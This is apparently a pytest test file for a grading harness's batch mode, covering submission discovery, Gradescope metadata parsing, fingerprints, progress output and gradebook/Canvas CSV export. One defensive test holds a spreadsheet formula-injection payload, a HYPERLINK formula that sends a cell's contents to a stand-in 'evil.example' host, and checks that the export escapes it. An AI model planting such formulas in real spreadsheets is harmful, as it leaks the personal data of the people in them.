"""The parts of ``gamegrader batch`` that need no grading: finding submissions, reading
Gradescope's metadata, fingerprints, the progress line and the gradebook."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from harness.batch.canvas import write_canvas
from harness.batch.discover import Student, Submission, discover, read_metadata
from harness.batch.gradebook import write_gradebook
from harness.batch.jobs import Job, SubmissionRefused, read_files
from harness.batch.progress import Progress
from harness.batch.run import select
from harness.batch.store import Record
from harness.intake.reading import Caps

pytestmark = pytest.mark.slow


def test_a_plain_folder_gives_one_submission_per_entry_named_after_it(tmp_path):
    (tmp_path / "alice").mkdir()
    (tmp_path / "alice" / "a.py").write_text("x = 1\n")
    (tmp_path / "bob smith.py").write_text("x = 2\n")
    (tmp_path / "bob_smith").mkdir()  # the same key once unsafe characters are replaced
    for skipped in (".DS_Store", "__MACOSX", ".hidden"):
        (tmp_path / skipped).mkdir()
    found = discover(tmp_path)
    assert [(s.key, s.path.name, s.student_label) for s in found] == [
        ("alice", "alice", "alice"), ("bob_smith", "bob smith.py", "bob smith"),
        ("bob_smith_2", "bob_smith", "bob_smith")]


def test_gradescope_metadata_with_ruby_tags_and_odd_entries_is_read_defensively(tmp_path):
    metadata = tmp_path / "submission_metadata.yml"
    metadata.write_text(
        "submission_1:\n"
        "  :submitters:\n  - :name: Ada\n    :email: ada@example.edu\n    :sid: 7\n"
        "  :created_at: 2024-10-01 12:00:00.000000000 -07:00\n"
        "  :score: !ruby/object:BigDecimal 18:0.4e2\n"
        "  :history: !ruby/array:Hash [{a: 1}]\n"
        "submission_2: {submitters: [{name: Bob}]}\n"
        "submission_3: just text\n"
        "submission_4:\n  :submitters: not a list\n")
    parsed = read_metadata(metadata)
    assert parsed["submission_1"][0] == (Student("Ada", "ada@example.edu", "7"),)
    assert parsed["submission_1"][1].startswith("2024-10-01")
    assert parsed["submission_2"][0] == (Student("Bob"),)
    assert parsed["submission_3"] == ((), "") and parsed["submission_4"] == ((), "")
    metadata.write_text(": : not yaml [")
    assert read_metadata(metadata) == {}
    assert read_metadata(tmp_path / "missing.yml") == {}


def test_only_matches_names_emails_ids_and_folders_case_insensitively(tmp_path):
    people = [Submission("submission_1", tmp_path / "submission_1",
                         (Student("Ada Lovelace", "ada@example.edu", "7"),)),
              Submission("bob", tmp_path / "bob.py", (Student("bob"),))]
    assert select(people, ["ADA@example.edu"]) == people[:1]
    assert select(people, ["7", "bob"]) == people
    assert select(people, ["submission_1", "ada lovelace"]) == people[:1]
    with pytest.raises(LookupError, match="no submission belongs to 'carol'"):
        select(people, ["carol"])


def test_fingerprint_changes_with_files_options_and_context_only(tmp_path):
    (tmp_path / "sub" / ".git").mkdir(parents=True)
    (tmp_path / "sub" / "a.py").write_text("x = 1\n")
    (tmp_path / "sub" / ".git" / "HEAD").write_text("ref\n")  # left out of the job
    files, is_file, _ = read_files(tmp_path / "sub")
    assert files == {"a.py": b"x = 1\n"} and not is_file
    job = Job("k", "assignment", files, False)
    same = Job("other key", "assignment", dict(files), False)
    assert job.fingerprint("spec") == same.fingerprint("spec")
    assert job.fingerprint("spec") != job.fingerprint("changed spec")
    assert job.fingerprint("spec") != Job("k", "assignment", files, False, 2.0).fingerprint("spec")
    assert job.fingerprint("spec") != Job("k", "assignment", {"a.py": b"x = 2\n"},
                                          False).fingerprint("spec")


def test_a_submission_over_the_intake_caps_is_refused_with_the_reason(tmp_path):
    (tmp_path / "a.py").write_text("x" * 11)
    (tmp_path / "b.py").write_text("x" * 11)
    with pytest.raises(SubmissionRefused, match="add up to more than 20 bytes"):
        read_files(tmp_path, Caps(file_bytes=100, total_bytes=20))
    with pytest.raises(SubmissionRefused, match="more than 1 Python files"):
        read_files(tmp_path, Caps(files=1))


def test_progress_lines_count_up_and_estimate_the_time_left():
    clock = iter([100.0, 100.0, 110.0, 110.0, 110.0])
    stream = io.StringIO()
    progress = Progress(4, stream=stream, clock=lambda: next(clock))
    progress.start()
    progress.advance("ada: 8/8")
    lines = stream.getvalue().splitlines()
    assert lines[0].endswith("0/4  0:00 elapsed, ETA --:--")
    assert "[#######" in lines[1] and "1/4  0:10 elapsed, ETA 0:30  ada: 8/8" in lines[1]


def _document(scores: list[float]) -> dict:
    return {"score": sum(scores), "tests": [
        {"number": f"1.{i}", "name": f"g: case {i}", "score": s, "max_score": 1.0,
         "status": "passed" if s == 1 else "failed"} for i, s in enumerate(scores, 1)]}


def test_gradebook_has_one_row_per_student_and_one_column_per_test(tmp_path):
    def record(key: str, students: tuple[Student, ...], document, problem: str = "") -> Record:
        return Record(Submission(key, tmp_path / key, students), document, 1.0, problem)
    records = [record("s2", (Student("Zed", "z@x.edu"),), _document([1.0, 0.5])),
               record("s1", (Student("Amy", "a@x.edu", "1"), Student("Ben", "b@x.edu")),
                      _document([1.0, 1.0])),
               record("s3", (Student("Cy"),), None, "not graded yet")]
    write_gradebook(tmp_path / "gradebook.csv", records)
    rows = list(csv.reader((tmp_path / "gradebook.csv").open(newline="")))
    assert rows[0] == ["student", "email", "sid", "submission", "group", "score", "max_score",
                       "status", "1.1 g: case 1", "1.2 g: case 2"]
    assert rows[1] == ["Amy", "a@x.edu", "1", "s1", "Ben", "2", "2", "graded", "1", "1"]
    assert rows[2] == ["Ben", "b@x.edu", "", "s1", "Amy", "2", "2", "graded", "1", "1"]
    assert rows[3] == ["Cy", "", "", "s3", "", "", "", "not graded yet", "", ""]
    assert rows[4] == ["Zed", "z@x.edu", "", "s2", "", "1.5", "2", "graded", "1", "0.5"]


def test_canvas_csv_has_canvas_s_header_and_a_row_per_group_member(tmp_path):
    """Canvas's import header, its Points Possible row, one row per student with the SIS id;
    what the export does not know stays empty, and so does a score that could be wrong."""
    def record(key: str, students: tuple[Student, ...], document, problem: str = "") -> Record:
        return Record(Submission(key, tmp_path / key, students), document, 1.0, problem)
    twice = Student("Dee", "d@x.edu", "4")
    records = [record("s1", (Student("Amy", "a@x.edu", "1"), Student("Ben", "b@x.edu", "2")),
                      _document([1.0, 0.5])),
               record("s3", (Student("Cy", "c@x.edu", "3"),), None, "not graded yet"),
               record("s4", (twice,), _document([1.0, 1.0])),
               record("s5", (twice, Student("Eli", "", "5")), _document([0.0, 1.0]))]
    write_canvas(tmp_path / "canvas.csv", records, "Homework 4: Dominoes")
    rows = list(csv.reader((tmp_path / "canvas.csv").open(newline="", encoding="utf-8")))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                       "Homework 4: Dominoes"]
    assert rows[1] == ["Points Possible", "", "", "", "", "2"]
    assert rows[2:] == [["Amy", "", "1", "", "", "1.5"], ["Ben", "", "2", "", "", "1.5"],
                        ["Cy", "", "3", "", "", ""], ["Dee", "", "4", "", "", ""],
                        ["Eli", "", "5", "", "", "1"]]


def test_no_gradebook_cell_runs_as_a_spreadsheet_formula(tmp_path):
    """Names reach the gradebook from the export's metadata (a student's chosen name) or from a
    submitted file's name: one starting with = + - @ is text there; numbers stay numbers."""
    name = '=HYPERLINK("http://evil.example/?"&B2,"details")'
    records = [Record(Submission("s1", tmp_path / "s1", (Student(name, "@x", "-2+3"),)),
                      {"score": -1.5, "tests": []}, 1.0, "")]
    write_gradebook(tmp_path / "gradebook.csv", records)
    rows = list(csv.reader((tmp_path / "gradebook.csv").open(newline="")))
    assert rows[1][:6] == ["'" + name, "'@x", "'-2+3", "s1", "", "-1.5"]
    left_out = write_canvas(tmp_path / "canvas.csv", records, "=cmd()")
    rows = list(csv.reader((tmp_path / "canvas.csv").open(newline="")))
    assert rows[0][-1] == "'=cmd()" and rows[2:] == []  # an id must be written as it is
    assert left_out[0].reason == "its SIS User ID '-2+3' starts like a spreadsheet formula"


def test_students_without_names_are_labelled_by_email_then_id():
    assert Student("", "a@x.edu", "1").label == "a@x.edu"
    assert Student("", "", "1").label == "1"
    assert Submission("k", Path("k"), ()).student_label == "k"
